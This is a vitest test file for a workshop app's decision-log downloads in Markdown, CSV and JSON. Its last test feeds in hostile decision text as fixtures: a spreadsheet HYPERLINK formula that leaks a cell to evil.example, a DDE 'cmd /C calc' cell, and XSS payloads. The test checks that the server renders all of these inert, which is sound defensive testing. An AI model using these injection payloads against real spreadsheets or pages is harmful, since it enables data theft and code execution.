import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { WorkshopLinks } from '../../shared/api.ts'
import {
  addBox,
  createDecision,
  decisionFromVote,
  listCanvases,
  listDecisions,
  readFlow,
  setDecisionStatus,
} from '../../shared/schema/index.ts'
import { itemTexts, tally } from '../../shared/schema/votes.ts'
import { startServer, type TestServer } from '../helpers/server.ts'
import { connectClient, synced, type TestClient, waitFor } from '../helpers/yclient.ts'

let server: TestServer
let workshop: WorkshopLinks
let client: TestClient

beforeEach(async () => {
  server = await startServer()
  workshop = await server.createWorkshop({ title: 'Plan ouvert — suivi' })
  client = connectClient(server.syncUrl, workshop.id, workshop.tokens.facilitator)
  await synced(client)
})

afterEach(async () => {
  client.destroy()
  await server.close()
})

describe('decision log downloads', () => {
  it('serves Markdown, CSV and JSON to any link of the workshop, and nothing without one', async () => {
    const id = createDecision(
      client.doc,
      { title: 'Créer un comité de pilotage', decision: 'Oui, dès mai' },
      'test',
    )
    setDecisionStatus(client.doc, id, 'adopted', 'test')
    const observer = connectClient(server.syncUrl, workshop.id, workshop.tokens.observer)
    await synced(observer)
    await waitFor(
      'the decision on the server',
      () => listDecisions(observer.doc)[0]?.status === 'adopted',
    )
    observer.destroy()

    const base = `${server.url}/api/workshops/${workshop.id}/decisions`
    const md = await fetch(`${base}.md?token=${workshop.tokens.observer}`)
    expect(md.status).toBe(200)
    expect(md.headers.get('content-type')).toBe('text/markdown; charset=utf-8')
    expect(md.headers.get('content-disposition')).toMatch(
      /attachment; filename="plan-ouvert-suivi-decisions\.md"/,
    )
    const markdown = await md.text()
    expect(markdown).toContain('status: adopted')
    expect(markdown).toContain('## Créer un comité de pilotage (adoptée)')

    const csv = await fetch(`${base}.csv`, {
      headers: { Authorization: `Bearer ${workshop.tokens.participant}` },
    })
    const bytes = new Uint8Array(await csv.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(new TextDecoder().decode(bytes)).toContain('Créer un comité de pilotage,adopted')

    const json = await (await fetch(`${base}.json?token=${workshop.tokens.facilitator}`)).json()
    expect(json).toMatchObject({
      format: 'fabrique.decisions',
      decisions: [{ id, status: 'adopted' }],
    })

    expect((await fetch(`${base}.json`)).status).toBe(401)
    expect((await fetch(`${base}.json?token=nope`)).status).toBe(401)
    expect((await fetch(`${base}.pdf?token=${workshop.tokens.observer}`)).status).toBe(404)
  })

  it('names the vote behind a decision by its step and its ideas by their text', async () => {
    const modelled = await server.createWorkshop({ template: 'modeliser-intervention' })
    const facilitator = connectClient(server.syncUrl, modelled.id, modelled.tokens.facilitator)
    await synced(facilitator)
    const phase = readFlow(facilitator.doc).phases.find((p) => p.vote?.kind === 'dots')
    if (!phase?.vote) throw new Error('the template has no dot vote')
    const canvasId = listCanvases(facilitator.doc)[0]?.id ?? ''
    const idea = addBox(
      facilitator.doc,
      canvasId,
      { kind: 'note', x: 0, y: 0, text: 'Navette' },
      'test',
    )
    const ballots = Array.from({ length: 3 }, () => ({
      group: 'citizen' as const,
      ballot: { kind: 'dots' as const, dots: new Map([[idea, 2]]) },
    }))
    createDecision(
      facilitator.doc,
      decisionFromVote(tally(phase.vote, ballots, true), {
        phaseId: phase.id,
        title: 'Priorités',
        itemTexts: itemTexts(facilitator.doc, 'fr'),
      }),
      'test',
    )
    const reader = connectClient(server.syncUrl, modelled.id, modelled.tokens.observer)
    await synced(reader)
    await waitFor('the decision on the server', () => listDecisions(reader.doc).length === 1)
    reader.destroy()
    facilitator.destroy()
    const md = await (
      await fetch(
        `${server.url}/api/workshops/${modelled.id}/decisions.md?token=${modelled.tokens.observer}`,
      )
    ).text()
    expect(md).toContain(
      `${phase.title.fr} (vote par points, 3 personnes ont voté)\u00a0: «\u202fNavette\u202f» 6`,
    )
    expect(md).not.toContain(idea)
    expect(md).toContain('- Citoyens partenaires\u00a0: 3')
  })

  it('serves a hostile decision inert: no CSV cell a spreadsheet would run, no HTML, links or images in Markdown', async () => {
    createDecision(
      client.doc,
      {
        title: '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
        context:
          '<img src=x onerror=alert(1)> [clic](javascript:alert(1)) ![](https://evil.example/p.png)',
        options: ["+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'],
        decision: '\t=1+1',
        rationale: '\r=1+1 <script>alert(1)</script>',
      },
      'test',
    )
    const observer = connectClient(server.syncUrl, workshop.id, workshop.tokens.observer)
    await synced(observer)
    await waitFor('the decision on the server', () => listDecisions(observer.doc).length === 1)
    observer.destroy()
    const base = `${server.url}/api/workshops/${workshop.id}/decisions`
    const auth = { headers: { Authorization: `Bearer ${workshop.tokens.participant}` } }

    const csv = (await (await fetch(`${base}.csv`, auth)).text()).replace(/^\uFEFF/, '')
    const cells = parseCsv(csv).flat()
    expect(cells.some((cell) => cell.includes('HYPERLINK'))).toBe(true)
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/)

    const md = await (await fetch(`${base}.md`, auth)).text()
    expect(md).toContain('HYPERLINK')
    expect(md).not.toMatch(/<img|<script|<a /i)
    expect(md).not.toMatch(/\]\(javascript:/i)
    expect(md).not.toContain('![')
  })
})

/** RFC 4180 rows (quoted cells may hold commas, quotes and line breaks). */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const char = text[i] as string
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ',') {
      rows.at(-1)?.push(cell)
      cell = ''
    } else if (char === '\n' || (char === '\r' && text[i + 1] === '\n')) {
      if (char === '\r') i++
      rows.at(-1)?.push(cell)
      cell = ''
      rows.push([])
    } else cell += char
  }
  rows.at(-1)?.push(cell)
  return rows
}
